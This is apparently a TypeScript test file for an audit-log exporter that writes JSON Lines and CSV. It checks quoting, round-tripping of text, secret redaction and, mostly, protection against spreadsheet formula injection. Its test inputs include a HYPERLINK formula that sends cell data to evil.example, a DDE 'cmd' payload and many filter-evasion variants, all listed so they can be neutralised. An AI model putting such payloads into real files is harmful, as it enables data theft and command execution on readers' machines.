import fc from 'fast-check';
import { expect, test } from 'vitest';
import { auditOf } from './audit-of.ts';
import { AUDIT_COLUMNS } from './audit-row.ts';
import type { Event } from './event.ts';
import { hashJson } from './input-hash.ts';
import { redactSecrets } from './redact.ts';
import { testDesk } from './test-support/test-desk.ts';
import { ann, testThread, THREAD } from './test-support/test-thread.ts';
import { writeAudit } from './write-audit.ts';

/** A thread in which somebody was asked to pay, and said no in these words. */
function denied(reason: string, name = 'Ann'): readonly Event[] {
  const thread = testThread(testDesk());
  thread.send('Pay');
  const input = { amount: 1 };
  thread.reply({ calls: [{ tool: 'pay', input }] });
  const target = { threadId: THREAD, callId: '1.0', inputHash: hashJson(input) };
  thread.facts({ type: 'call.deny', ...target, by: { ...ann, name }, reason });
  return thread.log();
}

/** RFC 4180, read by the book: what a file says, line by line, cell by cell. */
function readCsv(text: string): readonly (readonly string[])[] {
  const lines: string[][] = [];
  let line: string[] = [];
  let rest = text;
  while (rest !== '') {
    const quoted = /^"((?:[^"]|"")*)"(,|\r\n)/.exec(rest);
    const bare = quoted ?? /^([^",\r\n]*)(,|\r\n)/.exec(rest);
    if (!bare) throw new Error(`This is no CSV: ${JSON.stringify(rest.slice(0, 40))}`);
    line.push((bare[1] ?? '').replaceAll('""', '"'));
    rest = rest.slice(bare[0].length);
    if (bare[2] === ',') continue;
    lines.push(line);
    line = [];
  }
  return lines;
}

function reasonIn(csv: string): string | undefined {
  const [columns = [], ...lines] = readCsv(csv);
  return lines.findLast((line) => line[columns.indexOf('what')] === 'denied')?.[columns.indexOf('reason')];
}

test('[R135] as JSON Lines, each row with every column', () => {
  const log = denied('No.');
  const lines = writeAudit(log, 'jsonl').split('\n');
  expect(lines.pop()).toBe('');
  const rows = lines.map((line) => JSON.parse(line) as object);
  expect(rows).toEqual(auditOf(log));
  for (const row of rows) expect(Object.keys(row)).toEqual(AUDIT_COLUMNS);
});

test('[R135] as CSV, a header and as many cells in every line', () => {
  const [header, ...lines] = readCsv(writeAudit(denied('No.'), 'csv'));
  expect(header).toEqual(AUDIT_COLUMNS);
  expect(lines.map(({ length }) => length)).toEqual([31, 31, 31]);
  expect(lines[0]).toEqual([
    ...['t', '4', '1970-01-01T00:16:40.000Z', 'call', '1.0', 'pay'],
    ...['denied', '', '', '', '{"amount":1}', hashJson({ amount: 1 }), '', '', '', '', '', '', '', '1', '', '', ''],
    ...['', '', '', '1970-01-01T00:16:40.000Z', '', '', '', ''],
  ]);
});

test('[R135] an empty log has a header, and no lines', () => {
  expect(writeAudit([], 'csv')).toBe(`${AUDIT_COLUMNS.join(',')}\r\n`);
  expect(writeAudit([], 'jsonl')).toBe('');
});

test.each(['He said "no", twice', 'two\nlines', 'two\r\nlines', 'a,b', '"', '""', 'ünïcödé 漢字 🙂', 'a\0b'])(
  '[R135] what people write comes back as it was: %j',
  (reason) => {
    expect(reasonIn(writeAudit(denied(reason), 'csv'))).toBe(reason);
  },
);

test.each([
  '=HYPERLINK("https://evil.example?"&A1)',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '  =1+1',
  '\uFEFF=1+1',
  '\u00A0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '"=1+1',
  '\u200B=1+1',
  '\u0001=1+1',
])('[R135] no cell is a formula: %j', (evil) => {
  const csv = writeAudit(denied(evil, evil), 'csv');
  expect(reasonIn(csv)).toBe(`'${evil}`);
  for (const line of readCsv(csv)) for (const cell of line) expect(cell).not.toMatch(/^[\s\uFEFF]*[=+\-@＝＋－＠]/);
});

test.each([
  ['\t=1+1', "'\t'=1+1"],
  ['\r=1+1', "'\r'=1+1"],
  ['\n=1+1', "'\n'=1+1"],
  ['x;=1+1;y', "x;'=1+1;y"],
  ['x; "=1+1";', 'x; "\'=1+1";'],
  ['x\t=1+1', "x\t'=1+1"],
  ['x\n=1+1;y', "x\n'=1+1;y"],
  [';;\uFEFF＝1+1', ";;\uFEFF'＝1+1"],
])('[R135] nor is one whatever a spreadsheet takes for the separator: %j', (evil, inert) => {
  const csv = writeAudit(denied(evil, evil), 'csv');
  expect(reasonIn(csv)).toBe(inert);
  const pieces = csv.split(/[;\t\r\n]/).flatMap((piece) => [piece, piece.replaceAll('"', '')]);
  for (const piece of pieces) expect(piece).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u);
});

test('[R135] JSON with a semicolon is the same JSON, without one', () => {
  const thread = testThread(testDesk());
  thread.send('Look');
  thread.reply({ calls: [{ tool: 'look', input: { 'a;=1+1': 'x;=1+1;y\t=2' } }] });
  const csv = writeAudit(thread.log(), 'csv');
  expect(csv).not.toMatch(/[;\t]/);
  const input = readCsv(csv)
    .flat()
    .find((cell) => cell.startsWith('{'));
  expect(JSON.parse(input ?? '')).toEqual({ 'a;=1+1': 'x;=1+1;y\t=2' });
});

test('[R135] the longest text that could be a beginning takes time in its length', { timeout: 20_000 }, () => {
  for (const one of ['\t', ';', '"', ' \n'])
    expect(writeAudit(denied(one.repeat(500_000)), 'csv').length).toBeGreaterThan(500_000);
});

test('[R135] a formula that is an input, an output or an error is none either', () => {
  const thread = testThread(testDesk());
  thread.send('Look');
  thread.reply({
    calls: [
      { tool: 'look', input: '=1+1' },
      { tool: 'look', inputText: '=2+2' },
      { tool: 'look', input: -5 },
    ],
  });
  thread.run('1.0', '=3+3');
  thread.facts({ type: 'call.claim', callId: '1.2', runner: '=4+4' });
  thread.facts({
    type: 'call.fail',
    callId: '1.2',
    attempt: 1,
    thrown: Object.assign(new Error('x'), { name: '=5+5' }),
  });
  const cells = readCsv(writeAudit(thread.log(), 'csv')).flat();
  expect(cells.filter((cell) => /^['\s]*[=+\-@]/.test(cell) && !cell.startsWith("'"))).toEqual([]);
  expect(cells).toEqual(expect.arrayContaining(["'=1+1", "'=2+2", "'=3+3", "'=4+4", "'-5"]));
});

test(
  '[R135] any text survives, but for quotes in front of formulas and halves of characters',
  { timeout: 60_000 },
  () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', minLength: 1 }), (reason) => {
        const read = reasonIn(writeAudit(denied(reason), 'csv'));
        const bare = (text: string): string => text.replaceAll("'", '');
        expect(bare(read ?? '')).toBe(bare(reason.toWellFormed()));
        expect(read?.isWellFormed()).toBe(true);
      }),
      { numRuns: 60 },
    );
  },
);

test('[R135] what was redacted from the log stays redacted', () => {
  const key = 'sk-proj-abcdefghijklmnopqrstuvwx';
  const thread = testThread(testDesk());
  thread.send('Look');
  thread.reply({
    calls: [
      { tool: 'look', input: {} },
      { tool: 'look', input: {} },
    ],
  });
  thread.run('1.0', { leaked: key });
  thread.facts({ type: 'call.claim', callId: '1.1', runner: 'r1' });
  thread.facts({ type: 'call.fail', callId: '1.1', attempt: 1, thrown: new Error(`No: ${key}`) });
  for (const format of ['jsonl', 'csv'] as const) {
    expect(writeAudit(thread.log(), format)).not.toContain(key);
    expect(writeAudit(thread.log(), format)).toContain(redactSecrets(key));
  }
});
